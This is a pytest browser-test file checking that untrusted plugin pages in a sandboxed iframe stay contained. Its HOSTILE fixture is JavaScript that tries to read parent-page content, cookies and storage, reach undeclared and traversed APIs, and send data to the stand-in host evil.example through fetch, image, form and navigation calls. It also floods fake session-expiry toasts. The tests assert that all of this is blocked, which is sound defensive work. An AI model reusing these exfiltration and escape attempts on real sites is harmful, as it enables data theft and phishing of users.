"""Pages of plugins that nobody trusts, in a sandboxed frame: what they can do, and what a hostile one tries in vain."""

from __future__ import annotations

import pytest

from .test_web_pages import SIZES, _axe

PANEL = """
from pathlib import Path

@hookimpl
def register_static():
    return Path(__file__).parent / "static"

@hookimpl
def register_panels():
    return [Panel(id="NAME.page", title="TITLE", icon="sparkles", route="/NAME", tag="mb-NAME-page", module="page.js")]
"""
HOSTILE = """
const tried = {};
const attempt = async (name, act) => {
  try { const value = await act(); tried[name] = value === undefined ? "done" : String(value); }
  catch (error) { tried[name] = `refused: ${error.name}`; }
};
class Hostile extends HTMLElement {
  set host(host) { this.given = host; }
  async connectedCallback() {
    const { api } = this.given;
    await attempt("dom", () => parent.document.body.innerHTML);
    await attempt("cookies", () => document.cookie);
    await attempt("storage", () => localStorage.getItem("theme"));
    await attempt("undeclared", () => api.get("/api/core/keys"));
    await attempt("change", () => api.post("/api/core/keys", { body: { name: "mine", permissions: ["*"] } }));
    await attempt("elsewhere", () => api.get("/api/hostile/../core/keys"));
    await attempt("fetch", async () => (await fetch("/api/core/session", { credentials: "include" })).status);
    await attempt("outside", async () => (await fetch("https://evil.example/?stolen")).status);
    await attempt("top", () => { top.location = "https://evil.example/"; });
    await attempt("popup", () => window.open("https://evil.example/") === null ? "blocked" : "opened");
    await attempt("image", () => new Promise((done, failed) => {
      const image = new Image(); image.onload = () => done("loaded"); image.onerror = () => done("blocked");
      image.src = "https://evil.example/?stolen";
    }));
    await attempt("form", () => {
      const form = document.createElement("form"); form.action = "https://evil.example/"; form.target = "_top";
      document.body.append(form); form.submit();
    });
    for (let count = 0; count < 50; count++) this.given.notify("Your session has expired " + count);
    this.given.navigate("https://evil.example/");
    this.given.navigate("//evil.example/");
    this.given.navigate("/api/core/session");
    const words = document.createElement("pre");
    words.id = "tried";
    words.textContent = JSON.stringify(tried);
    this.append(words);
  }
}
customElements.define("mb-hostile-page", Hostile);
"""
LEAVES = """
customElements.define("mb-leaves-page", class extends HTMLElement {
  connectedCallback() { setTimeout(() => { location.href = "/login"; }, 200); }
});
"""
GROWS = """
customElements.define("mb-grows-more", class extends HTMLElement {
  connectedCallback() {
    this.textContent = `Grown for ${JSON.stringify(this.context)}`;
    this.style.display = "block";
    let height = 100;
    setInterval(() => { this.style.height = `${(height += 5000)}px`; }, 20);
  }
});
"""
EXTENDS = """
from pathlib import Path

@hookimpl
def register_static():
    return Path(__file__).parent / "static"

@hookimpl
def register_panel_extensions():
    return [PanelExtension(id="grows.more", title="More", point="billing.money", tag="mb-grows-more", module="page.js")]
"""
TOOLS = """
import { html, LitElement } from "lit";
import { confirmed, money } from "@maxbooster/ui";
class Tools extends LitElement {
  static properties = { said: {} };
  render() {
    return html`<h1>Earned ${money(123456, "EUR")}</h1><mb-icon name="sparkles"></mb-icon><p>${this.host.path}</p>
      <p id="said">${this.said}</p>
      <button @click=${() => this.save()}>Save</button><button @click=${() => this.remove()}>Delete</button>
      <a href="/home">Home</a>`;
  }
  save() {
    this.host.notify({ text: "Saved", action: { label: "Undo", run: () => (this.said = "Undone") } });
  }
  async remove() {
    this.said = String(await confirmed({ title: "Delete it?", action: "Delete" }));
  }
}
customElements.define("mb-tools-page", Tools);
"""


ICON = "document.querySelector('mb-tools-page').shadowRoot.querySelector('mb-icon')"


@pytest.fixture(scope="module")
def plugins(plugins):
    for name, title, code in (("hostile", "Hostile", HOSTILE), ("leaves", "Leaves", LEAVES), ("tools", "Tools", TOOLS)):
        package = plugins.install(name, PANEL.replace("NAME", name).replace("TITLE", title), manifest="trust='frame'")
        plugins.write(package, "static/page.js", code)
    plugins.write(plugins.install("grows", EXTENDS, manifest="trust='frame'"), "static/page.js", GROWS)
    return plugins


@pytest.fixture(scope="module")
def platform_settings(tmp_path_factory):
    """The operator frames the example, too."""
    data = tmp_path_factory.mktemp("framed")
    (data / "plugins.toml").write_text('disabled = []\n[pages]\nsetlist = "frame"\n', "utf-8")
    return {"MAXBOOSTER_DATA": str(data)}


@pytest.fixture
def signed_up(seats, platform):
    async def sit(email):
        seat = await seats()
        await seat.register(platform, email, "Nova")
        return seat.page

    return sit


async def within(page, title):
    """The frame of that title, once it is drawn."""
    element = await page.wait_for_selector(f'iframe[title="{title}"]')
    frame = await element.content_frame()
    assert frame is not None
    return frame


@pytest.mark.slow
async def test_a_hostile_page_gets_nowhere(platform, signed_up):
    import json

    page = await signed_up("hostile@example.org")
    leaked = []

    async def note(route):
        leaked.append(route.request.url)
        await route.fulfill(body="caught")

    await page.context.route("https://evil.example/**", note)
    await page.goto(f"{platform.base}/hostile")
    frame = await within(page, "Hostile")
    tried = json.loads(await (await frame.wait_for_selector("#tried")).inner_text())
    refused = {name for name, outcome in tried.items() if outcome.startswith("refused")}
    assert {"dom", "cookies", "storage", "undeclared", "change", "elsewhere", "fetch", "outside"} <= refused, tried
    assert (tried["popup"], tried["image"]) == ("blocked", "blocked")
    assert page.url == f"{platform.base}/hostile"
    assert leaked == []
    assert len(await page.query_selector_all("mb-toasts [role=status]")) <= 5


@pytest.mark.slow
async def test_a_frame_that_goes_elsewhere_is_closed(platform, signed_up):
    page = await signed_up("leaves@example.org")
    await page.goto(f"{platform.base}/leaves")
    await page.get_by_text("tried to go to another page").wait_for()
    assert await page.query_selector("iframe") is None


@pytest.mark.slow
async def test_a_page_in_a_frame_has_what_it_needs(platform, signed_up):
    page = await signed_up("tools@example.org")
    for size in SIZES.values():
        await page.set_viewport_size(size)
        await page.goto(f"{platform.base}/tools?do=this")
        frame = await within(page, "Tools")
        await frame.get_by_role("heading", name="€1,234.56").wait_for()
        assert await frame.get_by_text("/tools?do=this").is_visible()
        assert await frame.evaluate(f"{ICON}.shadowRoot.querySelector('path') !== null")
        assert [each for each in await _axe(page) if "page-has-heading-one" not in each] == []
        assert await _axe(frame) == []
    await frame.get_by_role("button", name="Save").click()
    await page.get_by_role("button", name="Undo").click()
    await frame.get_by_text("Undone").wait_for()
    await frame.get_by_role("button", name="Delete").click()
    await frame.locator("mb-confirm").get_by_role("button", name="Delete").click()
    await frame.get_by_text("true").wait_for()
    before = await frame.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--mb-ground')")
    await page.evaluate(
        "document.documentElement.dataset.theme = document.documentElement.dataset.theme === 'light' ? 'dark' : 'light'"
    )
    await frame.wait_for_function(
        f"getComputedStyle(document.documentElement).getPropertyValue('--mb-ground') !== {before!r}"
    )
    await frame.evaluate(
        "document.dispatchEvent(new KeyboardEvent('keydown', { key: 'k', ctrlKey: true, bubbles: true }))"
    )
    finding = page.locator("mb-palette input")
    await finding.wait_for()
    await finding.press("Escape")
    await finding.wait_for(state="hidden")
    await frame.get_by_role("link", name="Home").click()
    await page.wait_for_url(f"{platform.base}/home")


@pytest.mark.slow
async def test_the_example_works_in_a_frame(platform, signed_up):
    page = await signed_up("framed@example.org")
    made = await page.evaluate(
        """async () => {
          const me = await (await fetch("/api/core/session")).json();
          const body = { title: "Summer", venue: "Quay 9", played_on: "2027-06-01", songs: [] };
          const headers = { "content-type": "application/json", "x-csrf-token": me.csrf };
          return (await fetch("/api/setlist/setlists", { method: "POST", headers, body: JSON.stringify(body) })).status;
        }"""
    )
    assert made == 201
    await page.goto(f"{platform.base}/setlist")
    frame = await within(page, "Set lists")
    await frame.get_by_text("Quay 9").wait_for()
    assert await frame.get_by_role("heading").inner_text() != ""


@pytest.mark.slow
async def test_an_extension_in_a_frame_cannot_grow_without_end(platform, signed_up):
    page = await signed_up("grows@example.org")
    await page.goto(f"{platform.base}/money")
    frame = await within(page, "More")
    await frame.get_by_text("Grown for").wait_for()
    await page.wait_for_timeout(600)
    height = (
        await page.evaluate("document.querySelector('iframe')?.clientHeight ?? 0")
        or (await (await frame.frame_element()).bounding_box())["height"]
    )
    assert height <= 4000
